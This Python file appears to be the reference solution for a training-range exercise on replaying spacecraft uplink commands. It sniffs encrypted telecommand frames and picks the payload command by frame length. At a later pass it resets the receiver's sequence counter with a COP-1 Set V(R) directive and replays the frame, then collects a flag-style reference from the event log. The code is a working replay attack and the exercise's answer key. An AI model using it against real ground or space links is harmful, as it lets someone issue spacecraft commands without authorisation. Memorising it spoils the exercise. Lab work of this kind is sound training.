"""Reference attack for pass-replay: run on the attacker workstation, as the student.

1. Read the pass plan from mission control (``GET /api/passes``, the student's own
   account) and wait for a pass: outside one, nothing crosses the link.
2. Listen on the uplink air (UDP 5101 on the rf segment) while mission control sends
   commands, and keep the longest type-AD frame heard: SDLS encryption hides what a
   command says, not how long it is, and the payload commands carry a function id that
   PING does not (traffic analysis).
3. Wait for the next pass, as an adversary with a recording would.
4. Set FARM-1's V(R) back to the frame's N(S) with a COP-1 Set V(R) directive (control
   commands go in the clear), transmit the frame unchanged to rf-link:5100, and set V(R)
   to N(S) + 1 so the ground station's FOP-1 carries on. With anti-replay off, SDLS
   accepts the old sequence number and the command runs again.
5. The evidence: the spacecraft's DUPLICATE_COMMAND event quotes a reference, in mission
   control's event log.

Exit status 0 when a frame was replayed and the event quotes the reference, 2 when
nothing was heard, 3 when no DUPLICATE_COMMAND event came.
"""

from __future__ import annotations

import re
import socket
import sys
import time

from labctl.protocols.tc_frame import FrameKind, TcFrame, set_vr_frame
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

LISTEN_S = 60.0
#: After the first frame, listen this long for more (mission control sends every 15 s).
MORE_S = 20.0
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)


def sniff_uplink(seconds: float, more: float = MORE_S) -> bytes | None:
    """The longest type-AD frame heard in the ``more`` seconds after the first one (which
    must come within ``seconds``); None when none came."""
    heard: list[bytes] = []
    deadline = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", wiring.UPLINK_AIR))
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                datagram = sock.recv(2048)
                kind = TcFrame.decode(datagram).kind
            except TimeoutError:
                break
            except ValueError:
                continue
            if kind is FrameKind.AD and datagram not in heard:
                heard.append(datagram)
                print(f"heard a type-AD frame of {len(datagram)} octets", flush=True)
                if len(heard) == 1:
                    deadline = time.monotonic() + more
    return max(heard, key=len, default=None)


def next_pass(mc: MissionControl) -> None:
    """Sleep until the pass after the one under way has started (and settled)."""
    upcoming = [p for p in mc.passes() if not p["now"]]
    if upcoming:
        wait = float(upcoming[0]["in_s"]) + 6.0
        print(f"recorded; the next pass starts in {upcoming[0]['in_s']:.0f} s", flush=True)
        time.sleep(wait)


def replay(datagram: bytes) -> None:
    frame = TcFrame.decode(datagram)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for packet in (
            set_vr_frame(frame.scid, frame.vcid, frame.seq).encode(),
            datagram,
            set_vr_frame(frame.scid, frame.vcid, (frame.seq + 1) % 256).encode(),
        ):
            sock.sendto(packet, RF_LINK)
            time.sleep(0.3)
    print(f"replayed frame N(S)={frame.seq} SCID={frame.scid}: {len(datagram)} octets")


def evidence(mc: MissionControl, after: int, seconds: float = 40.0) -> str | None:
    """The reference quoted by a DUPLICATE_COMMAND event newer than event ``after``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for event in mc.request("GET", "/api/events?limit=50")["events"]:
            found = re.search(r"REPLAY\{[0-9a-f]+\}", event.get("aux_text") or "")
            if event["id"] > after and event["name"] == "DUPLICATE_COMMAND" and found:
                return found.group(0)
        time.sleep(1.0)
    return None


def main() -> int:
    try:
        mc = MissionControl.from_file()
        left = mc.wait_for_pass(LISTEN_S)
        print(f"in a pass ({left:.0f} s of contact left); listening on UDP {wiring.UPLINK_AIR}")
        datagram = sniff_uplink(LISTEN_S)
        if datagram is None:
            print("no uplink frame heard")
            return 2
        next_pass(mc)
        before = mc.last_event_id()
        replay(datagram)
        reference = evidence(mc, before)
    except MissionControlError as exc:
        print(f"mission control: {exc}")
        return 2
    if reference is None:
        print("no DUPLICATE_COMMAND event: the replay did not execute")
        return 3
    print(f"DUPLICATE_COMMAND event quotes {reference}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
